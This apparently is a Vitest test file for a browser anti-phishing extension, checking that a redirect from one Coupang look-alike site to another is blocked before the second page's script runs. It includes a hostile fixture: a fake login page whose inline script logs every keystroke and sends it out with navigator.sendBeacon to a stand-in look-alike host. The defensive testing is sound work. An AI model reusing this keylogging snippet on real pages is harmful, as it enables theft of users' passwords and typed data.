import type { IncomingMessage, ServerResponse } from 'node:http';
import { beforeAll, expect, test } from 'vitest';
import { forEachBrowser, type Session } from '../harness';
import { page, ranBeacon, serveHtml, sleep, tabUrl, warningShown } from './bg-helpers';

/**
 * Attack 10 (issue #10): the redirect hop. The user met look-alike A, was warned, and chose "Continue anyway".
 * A's server then answers a link with a 302 to look-alike B. No webNavigation event names B before its
 * response has committed, so before this defence B's own inline script ran (and could beacon, record keys,
 * post what the user typed) before the warning replaced it. The content script now stops a top-level page
 * whose host looks brand-like at document_start, before any page script, until the background has judged it.
 * The user would lose: a second fake page that ran, and keys it recorded.
 */
const A = ['coupang-refund.test', 'coupang-refund-2.test']; // look-alikes the user allows (one per attempt)
const B = 'coupang-event.test'; // look-alike A redirects to

/**
 * B's kit: says it ran, first thing in <head> and again with sendBeacon (which outlives the page), and sends
 * every key typed anywhere in the page to its server.
 */
const kitB = page(
  '쿠팡 로그인',
  `<form><input type="password" name="pw" autofocus></form>${ranBeacon('B-body')}`,
  `<script>navigator.sendBeacon('/__ran?tag=B-head', 'x');
addEventListener('keydown', (e) => navigator.sendBeacon('/__key?k=' + encodeURIComponent(e.key), 'x'), true);</script>`,
);

forEachBrowser('hostile: redirect hop', (ctx) => {
  let s: Session;
  beforeAll(async () => {
    for (const host of A)
      ctx.server.route(host, (req: IncomingMessage, res: ServerResponse) => {
        if (req.url?.startsWith('/go')) {
          res.writeHead(302, { location: ctx.server.url(B, '/login'), 'cache-control': 'no-store' });
          res.end();
          return;
        }
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' });
        res.end(page('쿠팡 이벤트', '<a id="go" href="/go">이벤트 참여</a>'));
      });
    serveHtml(ctx, B, kitB);
    s = await ctx.start({ locale: 'en' });
  });

  let attempt = 0;
  test('a 302 from an allowed look-alike to another: the second page never runs, and the tab is warned', async () => {
    // a retry must not find the first attempt's allowance: each attempt allows a host of its own
    const a = A[attempt++ % A.length]!;
    const since = Date.now();
    const tab = await s.newTab(ctx.server.url(a, '/start'));
    await warningShown(tab);
    await tab.click('details.continue summary');
    await tab.click('[data-action="continue"]');
    await tab.waitForUrl((u) => u === ctx.server.url(a, '/start'));
    await tab.waitFor(() => document.getElementById('go') !== null, undefined, 10_000);

    // the user follows A's link; A's server sends the tab on to B
    await tab.click('#go');
    const warned = decodeURIComponent(await warningShown(tab));
    expect(warned).toContain(B);
    // the user, seeing a login form, may type before the warning arrives: nothing of it may reach B
    await tab.keyboard('hunter2').catch(() => undefined);
    await sleep(800);

    const fromB = ctx.server
      .requestsFor(B)
      .filter((r) => r.time >= since)
      .map((r) => r.path);
    expect(fromB).toContain('/login'); // the hop did happen
    expect(fromB.filter((p) => p.startsWith('/__ran') || p.startsWith('/__key'))).toEqual([]);
    // and the tab stays on the warning about B (not back on B, not on A)
    const id = await s.tabIdOf('warning.html');
    expect(decodeURIComponent(await tabUrl(s, id))).toContain(B);
    await tab.close();
  });
});
